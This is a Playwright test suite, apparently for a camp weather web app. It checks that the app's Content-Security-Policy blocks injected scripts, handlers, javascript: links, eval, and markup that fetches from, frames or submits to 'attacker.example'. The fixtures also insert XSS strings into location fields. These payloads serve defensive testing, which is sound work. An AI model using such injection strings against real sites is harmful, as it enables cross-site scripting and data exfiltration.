import type { Page } from 'playwright'
import * as assert from 'uvu/assert'
import { camp } from '../../src/camp'
import { mapAppUrl } from '../../src/lib/links'
import { dataScreens, screenNames } from '../support/app-tables'
import { locationsFile, place } from '../support/files'
import { openedScreen, openScreen } from '../support/page'
import { publish, siteSuite, visit } from '../support/site'

const test = siteSuite('security')

const mapOrigin = 'https://embed.windy.com'

const scrollToEnd = (page: Page) => page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight))

test('The app asks nothing of any origin but its own, the data host and the map', async ({ site }) => {
  const { page, context, origins } = await visit(site, { path: 'no-such-screen' })
  context.on('request', (request) => origins.add(new URL(request.url()).origin))
  for (const name of screenNames) {
    await openScreen(page, name)
    if (!dataScreens.includes(name)) continue
    await openedScreen(page).getByText('Last updated').waitFor()
    await scrollToEnd(page)
    if (name === 'Weather') await page.locator('iframe').waitFor()
  }
  await openScreen(page, 'Info')
  await page.getByRole('button', { name: 'Close' }).click()
  await page.getByRole('radio', { name: 'Dark', exact: true }).check()
  await page.reload()
  await page.getByText('Version').waitFor()
  assert.equal([...origins].sort(), [new URL(site.url).origin, site.data.url, mapOrigin].sort())
})

test("Attack: the page's policy names nothing but itself, its data host and the map", async ({ site }) => {
  const { page } = await visit(site)
  const policy = await page.locator('meta[http-equiv="content-security-policy" i]').getAttribute('content')
  const directives = new Map(
    (policy ?? '').split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/)
      return [name, sources] as const
    }),
  )
  assert.equal(directives.get('default-src'), [`'none'`])
  assert.equal(directives.get('connect-src')?.toSorted(), [`'self'`, site.data.url])
  assert.equal(directives.get('frame-src'), [mapOrigin])
  assert.equal(directives.get('base-uri'), [`'none'`])
  assert.equal(directives.get('form-action'), [`'none'`])
  for (const name of ['script-src', 'style-src']) {
    const sources = directives.get(name) ?? []
    assert.ok(sources.length)
    for (const source of sources) assert.match(source, /^'sha256-[\w+/]+=*'$/, name)
  }
  assert.not.match(policy ?? '', /unsafe|\*|https?:(?!\/\/)|data:|blob:/)
  assert.is(directives.has('upgrade-insecure-requests'), false, 'localhost has no https')
})

/**
 * Tries something in the page, as its own code would, and resolves with the directive that forbade it. Waits
 * for the complaint, so that an attack which goes through is a failure.
 */
const forbiddenBy = (page: Page, attack: string): Promise<string> =>
  page.evaluate(
    (attack) =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        })
        const attacks: Record<string, () => void> = {
          inlineScript() {
            const script = document.createElement('script')
            script.textContent = 'window.isBroken = true'
            document.body.append(script)
          },
          foreignScript() {
            const script = document.createElement('script')
            script.src = 'https://attacker.example/script.js'
            document.body.append(script)
          },
          ownScript() {
            const script = document.createElement('script')
            script.src = '/weather'
            document.body.append(script)
          },
          handler() {
            document.body.insertAdjacentHTML(
              'beforeend',
              '<img src="/nothing.png" onerror="isBroken = true">',
            )
          },
          address() {
            document.body.insertAdjacentHTML(
              'beforeend',
              '<a id="attack" href="javascript:isBroken = true">x</a>',
            )
            document.getElementById('attack')?.click()
          },
          evaluation() {
            try {
              // eslint-disable-next-line no-eval -- what the policy must forbid
              ;(0, eval)('window.isBroken = true')
            } catch {
              // As it must be; the event tells.
            }
          },
          styleSheet() {
            document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')
          },
          foreignImage() {
            new Image().src = 'https://attacker.example/pixel.png'
          },
          foreignRequest() {
            fetch('https://attacker.example/').catch(() => {})
          },
          foreignFrame() {
            document.body.insertAdjacentHTML('beforeend', '<iframe src="https://attacker.example/"></iframe>')
          },
          form() {
            document.body.insertAdjacentHTML('beforeend', '<form action="https://attacker.example/"></form>')
            document.forms[0]?.submit()
          },
          base() {
            document.head.insertAdjacentHTML('beforeend', '<base href="https://attacker.example/">')
          },
          plugin() {
            document.body.insertAdjacentHTML(
              'beforeend',
              '<object data="https://attacker.example/"></object>',
            )
          },
        }
        // From a task of the page: what a test evaluates may do more than the page.
        setTimeout(attacks[attack]!)
        setTimeout(() => resolve('nothing'), 3000)
      }),
    attack,
  )

/** Holds when the policy forbids every attack by its directive, and none has run. */
const allForbidden = async (page: Page, attacks: Record<string, string>) => {
  for (const [attack, directive] of Object.entries(attacks)) {
    assert.is(await forbiddenBy(page, attack), directive, attack)
  }
  assert.is(await page.evaluate(() => 'isBroken' in window), false)
}

test('Attack: no injected script runs, inline or loaded, in a handler or in an address, nor does eval', async ({
  site,
}) => {
  const { page } = await visit(site, { path: 'info' })
  await allForbidden(page, {
    inlineScript: 'script-src-elem',
    foreignScript: 'script-src-elem',
    ownScript: 'script-src-elem',
    handler: 'script-src-attr',
    address: 'script-src-elem',
    evaluation: 'script-src',
  })
})

test('Attack: injected markup fetches, frames and sends nothing, and does not restyle the page', async ({
  site,
}) => {
  const { page } = await visit(site, { path: 'info' })
  await allForbidden(page, {
    styleSheet: 'style-src-elem',
    foreignImage: 'img-src',
    foreignRequest: 'connect-src',
    foreignFrame: 'frame-src',
    plugin: 'object-src',
    form: 'form-action',
    base: 'base-uri',
  })
  assert.ok(await page.locator('h1:visible').isVisible())
  assert.is(page.url(), `${site.url}info`)
  assert.is(await page.evaluate(() => document.baseURI), page.url())
})

test('External links: every link is https, mailto or tel, or stays in the app, and a new tab has no opener', async ({
  site,
}) => {
  const [first] = locationsFile().locations
  publish(site, {
    locations: {
      locations: [
        first!,
        place({ name: 'Script', lat: 'javascript:alert(1)//', lng: '"><img src=x>' }),
        place({ name: 'Parameters', lat: '1&q=2', lng: '#3', googlePlaceId: '&query=4#5' }),
      ],
    },
  })
  const { page } = await visit(site, { path: 'no-such-screen' })
  const outside = new Set<string>()
  for (const name of screenNames) {
    await openScreen(page, name)
    if (dataScreens.includes(name)) await openedScreen(page).getByText('Last updated').waitFor()
    const links = await page.locator('a').evaluateAll((elements) =>
      (elements as HTMLAnchorElement[]).map(({ href, origin, protocol, target, rel }) => ({
        href,
        isOwn: origin === location.origin,
        protocol,
        target,
        rel,
      })),
    )
    for (const { href, isOwn, protocol, target, rel } of links) {
      if (isOwn) continue
      outside.add(href)
      assert.ok(['https:', 'mailto:', 'tel:'].includes(protocol), `${name}: ${href}`)
      // One that opens a new window would have to keep its opener from it.
      assert.ok(target === '' || /\bnoopener\b/.test(rel), `${name}: ${href}`)
    }
  }
  for (const { url } of Object.values(camp.links)) assert.ok(outside.has(new URL(url).href), url)
  const own = mapAppUrl(camp.position, '')
  const places = [...outside].filter(
    (href) => href.startsWith('https://www.google.com/maps/search/?api=1&query=') && href !== own,
  )
  assert.is(places.length, 3)
  for (const href of places) {
    const { searchParams, hash } = new URL(href)
    assert.is(hash, '', href)
    assert.equal(
      [...searchParams.keys()].slice(0, 3),
      searchParams.has('query_place_id') ? ['api', 'query', 'query_place_id'] : ['api', 'query'],
      href,
    )
  }
})

test.run()
